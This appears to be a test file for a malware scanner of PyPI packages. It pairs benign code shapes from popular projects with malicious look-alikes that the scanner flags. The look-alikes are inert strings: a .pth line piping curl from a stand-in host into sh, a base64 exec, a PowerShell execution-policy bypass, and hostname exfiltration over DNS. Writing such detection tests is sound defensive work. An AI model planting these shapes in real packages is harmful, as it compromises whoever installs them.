"""Shapes of honest code from PyPI's most installed projects that the rules once took for
malware, each beside the malicious shape it resembles, which must still be found.

They came from scanning the newest release of the 300 most downloaded projects (see
docs/scanning.md, "PyPI's most installed projects"): a proxy scans every file it serves, and
a verdict of malicious on setuptools or pandas would keep them from every build behind it.

Every "payload" is an inert string written here: nothing is ever run, and the scanner only
reads it.
"""

from __future__ import annotations

from bastion.core.scanning import scan

from .support import rules_of, sdist, wheel

# A module deep in the package, parsed because it names a process call.
DEEP = "demo/io/clip.py"


def _scan(tmp_path, name: str, files: dict[str, str], *, as_wheel: bool = False):
    (tmp_path / name).mkdir()
    result = (wheel if as_wheel else sdist)(tmp_path / name, files)
    found = scan(result)
    assert found.verdict != "error", found.reason
    return found


def test_powershell_running_a_cmdlet_is_a_process_and_a_hidden_or_bypassing_one_a_payload(
        tmp_path):
    # pandas reads the clipboard and azure-identity opens a browser this way on WSL.
    head = "import subprocess\ndef paste():\n    return subprocess.check_output("
    honest = _scan(tmp_path, "honest", {
        DEEP: head + "['powershell.exe', '-NoProfile', '-Command', 'Get-Clipboard'])\n"})
    hidden = _scan(tmp_path, "hidden", {
        DEEP: head + "['powershell.exe', '-ExecutionPolicy', 'Bypass', '-File', 'x.ps1'])\n"})
    assert "proc-shell-download" not in rules_of(honest), honest.findings
    assert "proc-exec" in rules_of(honest)
    assert honest.verdict == "clean"
    assert "proc-shell-download" in rules_of(hidden), hidden.findings


def test_a_command_list_built_first_is_read_for_its_program(tmp_path):
    # jaraco.context (vendored by setuptools): a tarball fetched in one function, a clone of
    # a repository with git or hg in another, in one small __init__.
    fetch = ("import subprocess, tarfile, urllib.request\n"
             "def tarball(url):\n"
             "    with tarfile.open(fileobj=urllib.request.urlopen(url), mode='r|*') as tf:\n"
             "        tf.extractall('out', filter='data')\n")
    honest = _scan(tmp_path, "honest", {"demo/__init__.py": fetch + (
        "def clone(url, dest):\n    exe = 'git' if 'git' in url else 'hg'\n"
        "    cmd = [exe, 'clone', url, dest]\n    subprocess.check_call(cmd)\n")})
    # The same shape where the other choice is a shell: it runs what it fetched.
    hiding = _scan(tmp_path, "hiding", {"demo/__init__.py": fetch + (
        "def clone(url, dest):\n    exe = 'git' if 'git' in url else 'sh'\n"
        "    cmd = [exe, dest + '/run.sh']\n    subprocess.check_call(cmd)\n")})
    assert not {"proc-exec", "download-exec"} & rules_of(honest), honest.findings
    assert honest.verdict == "clean"
    assert "download-exec" in rules_of(hiding), hiding.findings
    assert hiding.verdict == "malicious"


def test_a_pth_that_only_imports_is_an_import_and_one_that_acts_runs_code(tmp_path):
    # coverage measures subprocesses with a .pth that imports it when a variable is set.
    honest = _scan(tmp_path, "honest", {"a1_demo.pth": (
        "import sys; exec('import os\\nif os.getenv(\"DEMO_PROCESS_START\"):\\n"
        "    import demo\\n    demo.process_startup()')\n")}, as_wheel=True)
    acting = _scan(tmp_path, "acting", {"a1_demo.pth": (
        "import os; os.system('curl -s http://example.invalid/x | sh')\n")}, as_wheel=True)
    decoding = _scan(tmp_path, "decoding", {"a1_demo.pth": (
        "import base64; exec(base64.b64decode('cHJpbnQoJ2hhcm1sZXNzJyk='))\n")}, as_wheel=True)
    assert rules_of(honest) == {"pth-import"} and honest.verdict == "clean", honest.findings
    for found in (acting, decoding):
        assert "pth-exec" in rules_of(found) and found.verdict == "malicious", found.findings


def test_a_command_whose_program_is_unknown_does_not_start_with_its_first_argument(tmp_path):
    # asyncpg runs `pg_ctl start -D ...` with pg_ctl's path found at run time; Windows'
    # `start payload.exe` written out is still a launch.
    head = "import subprocess\ndef run(pg_ctl, data):\n    subprocess.run("
    honest = _scan(tmp_path, "honest", {DEEP: head + "[pg_ctl, 'start', '-D', data])\n"})
    launch = _scan(tmp_path, "launch", {DEEP: head + "['start', 'payload.exe'])\n"})
    assert "proc-shell-download" not in rules_of(honest), honest.findings
    assert "proc-exec" in rules_of(honest) and honest.verdict == "clean"
    assert "proc-shell-download" in rules_of(launch), launch.findings


def test_asking_ldd_for_its_version_in_setup_py_is_configuration(tmp_path):
    # semgrep's setup.py tells glibc from musl to name its wheel's platform.
    setup = ("import subprocess\nfrom setuptools import setup\n"
             "out = subprocess.run({cmd}, capture_output=True).stdout\n"
             "setup(name='demo', version='1.0')\n")
    honest = _scan(tmp_path, "honest", {"setup.py": setup.format(cmd="['ldd', '--version']")})
    running = _scan(tmp_path, "running", {"setup.py": setup.format(cmd="['./helper']")})
    assert "proc-exec" not in rules_of(honest), honest.findings
    assert "proc-exec" in rules_of(running), running.findings


def test_resolving_the_own_name_on_the_local_link_sends_nothing_away(tmp_path):
    # jupyter_client finds its addresses: localhost, its own name, and that name on mDNS.
    head = "import socket\ndef addresses():\n"
    honest = _scan(tmp_path, "honest", {DEEP: head + (
        "    local = socket.gethostbyname_ex('localhost')[2]\n"
        "    name = socket.gethostname()\n"
        "    public = socket.gethostbyname_ex(name)[2]\n"
        "    return local + public + socket.gethostbyname_ex(name + '.local')[2]\n")})
    # The same name as a label of someone's domain reaches that domain's name server.
    sending = _scan(tmp_path, "sending", {DEEP: head + (
        "    name = socket.gethostname()\n"
        "    return socket.gethostbyname_ex(name + '.collector.example.net')[2]\n")})
    assert not {"exfil-dns", "exfil-host-data", "net-call"} & rules_of(honest), honest.findings
    assert honest.verdict == "clean"
    assert "exfil-dns" in rules_of(sending), sending.findings
